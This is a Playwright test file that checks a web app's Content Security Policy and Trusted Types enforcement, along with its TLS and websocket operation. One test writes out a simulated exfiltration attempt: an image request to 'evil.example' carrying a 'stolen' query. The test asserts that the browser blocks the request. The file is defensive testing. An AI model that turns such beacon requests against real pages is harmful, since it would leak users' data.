import type { Page } from "@playwright/test";
import { Certificates } from "../../test-support/certificate.ts";
import { startGateway } from "../../test-support/programs.ts";
import { expect, test, Wirebook } from "./wirebook.ts";

/** Has a page remember what its browser reports of its policy, from before its first script on. */
async function watchPolicy(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(globalThis, { violations });
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) => {
      violations.push(`${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
}

function violationsOf(page: Page): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations);
}

/** What the page does in an ordinary hour. */
async function useAll(wirebook: Wirebook): Promise<void> {
  await expect(wirebook.follow).toHaveText("live");
  await wirebook.send(2);
  await expect(wirebook.card("brick 2")).toContainText("done");
  await expect(wirebook.inspector).toContainText("brick 2");
  await wirebook.send(1, { N: "1" });
  await expect(wirebook.card("brick 1 1")).toContainText("done");
}

test("the page does all of its work under its policy, and the browser reports no violation", async ({
  page,
  gateway,
}) => {
  await watchPolicy(page);
  await useAll(await Wirebook.open(page, gateway));
  expect(await violationsOf(page)).toEqual([]);
});

test("the policy is in force: no text becomes markup, no script of the document runs, nothing leaves", async ({
  context,
  gateway,
}) => {
  // A page of its own, since the one of the other tests may report nothing at all.
  const page = await context.newPage();
  await watchPolicy(page);
  await Wirebook.open(page, gateway);
  const tried = await page.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => (document.body.innerHTML = "<b>text</b>"),
      srcdoc: () => (document.createElement("iframe").srcdoc = "<b>text</b>"),
      policy: () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy("another", {}),
    };
    return Object.entries(attempts).map(([name, attempt]) => {
      try {
        attempt();
        return `${name} went through`;
      } catch (error) {
        return `${name}: ${(error as Error).name}`;
      }
    });
  });
  expect(tried).toEqual(["innerHTML: TypeError", "srcdoc: TypeError", "policy: TypeError"]);
  await page.evaluate(async () => {
    const image = document.createElement("img");
    document.body.append(image);
    image.src = "https://evil.example/?stolen";
    await new Promise((resolve) => image.addEventListener("error", resolve));
  });
  const violations = await violationsOf(page);
  expect(violations.some((each) => each.startsWith("require-trusted-types-for"))).toBe(true);
  expect(violations.some((each) => each.startsWith("img-src https://evil.example"))).toBe(true);
});

test.describe("over TLS", () => {
  test.use({ ignoreHTTPSErrors: true });

  test("the page opens, connects by wss, and does all of its work", async ({ page, server }) => {
    await using certificates = await Certificates.open();
    const { certPath, keyPath } = await certificates.make("127.0.0.1");
    const options = ["--tls-cert", certPath, "--tls-key", keyPath];
    await using gateway = await startGateway({ server: server.address, options });
    await watchPolicy(page);
    const sockets: string[] = [];
    page.on("websocket", (socket) => sockets.push(socket.url()));
    const wirebook = new Wirebook(page);
    await page.goto(`https://${gateway.address}/`);
    await wirebook.begin("brick");
    await useAll(wirebook);
    expect(sockets).toEqual([`wss://${gateway.address}/ws`]);
    expect(await violationsOf(page)).toEqual([]);
  });
});
